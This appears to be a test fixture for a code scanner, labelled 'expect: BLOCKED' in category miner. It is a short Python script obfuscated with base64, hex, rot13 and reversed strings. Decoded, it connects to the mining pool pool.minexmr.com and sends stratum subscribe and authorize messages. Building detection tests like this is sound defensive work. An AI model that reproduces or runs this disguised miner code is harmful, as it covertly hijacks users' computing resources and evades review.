# expect: BLOCKED category: miner variant-of: risky/miner/stratum_socket.py technique: encode+getattr
json = __import__(''.join(['j', 's', 'o', 'n']))
socket = __import__(__import__('base64').b64decode('c29ja2V0').decode())
pool = getattr(socket, ''.join(map(chr, [99, 114, 101, 97, 116, 101, 95, 99, 111, 110, 110, 101, 99, 116, 105, 111, 110])))((getattr(bytes, bytes.fromhex('66726f6d686578').decode())('706f6f6c2e6d696e65786d722e636f6d').decode(), 4444))
getattr(pool, __import__('codecs').decode('fraqnyy', 'rot13'))(getattr(json, 'spmud'[::-1])({''.join(map(chr, [105, 100])): 1, 'dohtem'[::-1]: ''.join(['m', 'i', 'n', 'i', 'n', 'g', '.', 's', 'u', 'b', 's', 'c', 'r', 'i', 'b', 'e']), __import__('codecs').decode('cnenzf', 'rot13'): []}).encode() + b'\n')
getattr(pool, bytes.fromhex('73656e64616c6c').decode())(getattr(json, __import__('base64').b64decode('ZHVtcHM=').decode())({__import__('base64').b64decode('aWQ=').decode(): 2, getattr(bytes, ''.join(['f', 'r', 'o', 'm', 'h', 'e', 'x']))('6d6574686f64').decode(): 'ezirohtua.gninim'[::-1], ''.join(map(chr, [112, 97, 114, 97, 109, 115])): [__import__('codecs').decode('jbexre1', 'rot13'), 'x']}).encode() + b'\n')
print(getattr(pool, ''.join(map(chr, [114, 101, 99, 118])))(4096))
